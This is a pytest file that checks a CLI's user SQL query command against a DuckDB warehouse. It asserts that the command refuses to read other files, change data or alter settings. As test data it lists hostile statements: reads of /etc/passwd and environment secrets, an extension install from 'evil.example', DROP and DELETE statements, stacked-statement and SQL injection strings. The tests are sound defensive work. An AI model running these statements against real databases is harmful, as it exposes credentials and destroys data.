"""SQL from users through ``embaudit query``: it reads the warehouse, and reaches and changes nothing else."""

from __future__ import annotations

import hashlib
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hostile import NAMES
from plausible import plausible_rows, stage_all
from some_rows import mostly_slow

from embaudit.cli.main import main

SECRET = "canary-secret"

REACHING = [
    "SELECT * FROM read_csv('{secret}')",
    "SELECT * FROM read_text('{secret}')",
    "SELECT * FROM read_blob('{secret}')",
    "SELECT * FROM read_json('{secret}')",
    "SELECT * FROM '{secret}'",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv('/proc/self/environ')",
    "SELECT * FROM glob('{folder}/*')",
    "SELECT * FROM sniff_csv('{secret}')",
    "SELECT * FROM parquet_metadata('{parquet}')",
    "SELECT * FROM query('SELECT * FROM read_text(''{secret}'')')",
    "SELECT * FROM query_table(['{secret}'])",
    "SELECT getenv('CANARY')",
    "SELECT * FROM duckdb_secrets() WHERE getenv('CANARY') IS NOT NULL",
    "COPY (SELECT 1) TO '{folder}/out.csv'",
    "COPY audit FROM '{secret}'",
    "COPY FROM DATABASE warehouse TO other",
    "EXPORT DATABASE '{folder}/export'",
    "IMPORT DATABASE '{folder}'",
    "EXPLAIN ANALYZE COPY (SELECT 1) TO '{folder}/out.csv'",
    "ATTACH '{folder}/other.duckdb'",
    "ATTACH 'host=localhost password=x' AS pg (TYPE postgres)",
    "ATTACH ':memory:' AS m",
    "INSTALL httpfs",
    "FORCE INSTALL httpfs FROM 'http://evil.example'",
    "LOAD httpfs",
    "LOAD '{folder}/evil.duckdb_extension'",
    "UPDATE EXTENSIONS",
    "SELECT * FROM read_parquet('http://127.0.0.1:9/a.parquet')",
    "SELECT * FROM read_parquet('s3://bucket/a.parquet')",
    "SELECT * FROM sqlite_scan('{secret}', 't')",
    "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')",
]
CHANGING = [
    "INSERT INTO audit_corpus VALUES ('x', 'sts', 'y')",
    "UPDATE audit SET status = 'failed'",
    "DELETE FROM audit",
    "TRUNCATE audit",
    "MERGE INTO audit_corpus USING (SELECT 1 AS i) ON false WHEN NOT MATCHED THEN INSERT VALUES ('x', 'sts', 'y')",
    "EXPLAIN ANALYZE DELETE FROM audit",
    "DROP TABLE audit",
    "DROP VIEW leaderboard",
    "ALTER TABLE audit ADD COLUMN x INTEGER",
    "CREATE TABLE mine AS SELECT 1 AS a",
    "CREATE OR REPLACE VIEW leaderboard AS SELECT 1",
    "CREATE OR REPLACE MACRO lower(x) AS 'pwned'",
    "CREATE SEQUENCE s",
    "COMMENT ON TABLE audit IS 'pwned'",
    "PREPARE p AS DELETE FROM audit; EXECUTE p",
    "SELECT 1; DELETE FROM audit",
    "SELECT 1; SELECT 2",
    "BEGIN; DELETE FROM audit; COMMIT",
    "FORCE CHECKPOINT",
    "VACUUM FULL audit",
]
SETTING = [
    "SET enable_external_access = true",
    "SET GLOBAL enable_external_access = true",
    "RESET enable_external_access",
    "SET lock_configuration = false",
    "SET allow_unsigned_extensions = true",
    "SET extension_directory = '{folder}'",
    "SET temp_directory = '{folder}/spill'",
    "SET log_query_path = '{folder}/log'",
    "SET profiling_output = '{folder}/profile.json'",
    "SET allowed_paths = ['/']",
    "SET memory_limit = '100GB'",
    "PRAGMA enable_profiling = 'json'",
    "PRAGMA profile_output = '{folder}/profile.json'",
    "PRAGMA memory_limit = '100GB'",
    "CALL enable_logging(storage = 'file')",
    "CALL pragma_version()",
    "CALL force_checkpoint()",
]


@pytest.fixture(scope="module")
def filled(published_once: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sql")
    stage_all(folder / "staged", {"token": plausible_rows()["token"]})
    (folder / "warehouse").mkdir()
    return Path(shutil.copy(published_once, folder / "warehouse"))


@pytest.fixture
def ask(
    filled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., tuple[object, str]]:
    """Run a command on the warehouse; its exit code and everything it printed. Nothing may change on the disk."""
    secret = tmp_path / "secret.csv"
    secret.write_text(f"a,b\n1,{SECRET}\n")
    monkeypatch.setenv("CANARY", SECRET)
    monkeypatch.chdir(tmp_path)

    def state() -> tuple[list[Path], str]:
        files = sorted([*tmp_path.rglob("*"), *filled.parent.rglob("*")])
        return files, hashlib.sha256(filled.read_bytes()).hexdigest()

    before = state()

    def run(*arguments: str) -> tuple[object, str]:
        command, *rest = arguments
        monkeypatch.setattr(sys, "argv", ["embaudit", command, "--warehouse", str(filled), *rest])
        with pytest.raises(SystemExit) as ending:
            main()
        printed = capsys.readouterr()
        assert state() == before, f"{arguments} changed something on the disk"
        assert SECRET not in printed.out + printed.err
        return ending.value.code, printed.out + printed.err

    return run


@pytest.mark.parametrize(
    "statements", mostly_slow([REACHING, CHANGING, SETTING], 1), ids=["reaching", "changing", "setting"]
)
def test_one_paragraph_and_nothing_reached_or_changed(
    ask: Callable[..., tuple[object, str]], statements: list[str], filled: Path, tmp_path: Path
) -> None:
    staged = next((filled.parents[1] / "staged").rglob("*.parquet"))
    for statement in statements:
        sql = statement.format(secret=tmp_path / "secret.csv", folder=tmp_path, parquet=staged)
        code, printed = ask("query", sql)
        assert code == 2, (sql, printed)
        assert printed.startswith("Error: "), (sql, printed)
        assert "Traceback" not in printed, sql


def test_an_honest_question_still_has_its_answer(ask: Callable[..., tuple[object, str]]) -> None:
    code, printed = ask("query", "SELECT audit_id, status FROM audit", "--format", "csv")
    assert (code, printed) == (0, "audit_id,status\na1,published\n")


@pytest.mark.slow
def test_the_name_of_an_audit_is_a_value_and_no_sql(ask: Callable[..., tuple[object, str]]) -> None:
    for name in (*NAMES.values(), "' OR 1=1 --", "a1' OR '1'='1", "%", "_1"):
        code, printed = ask("show", "--", name)
        assert code == 2, name
        assert "has no audit" in printed, name
        assert "\x1b" not in printed, name
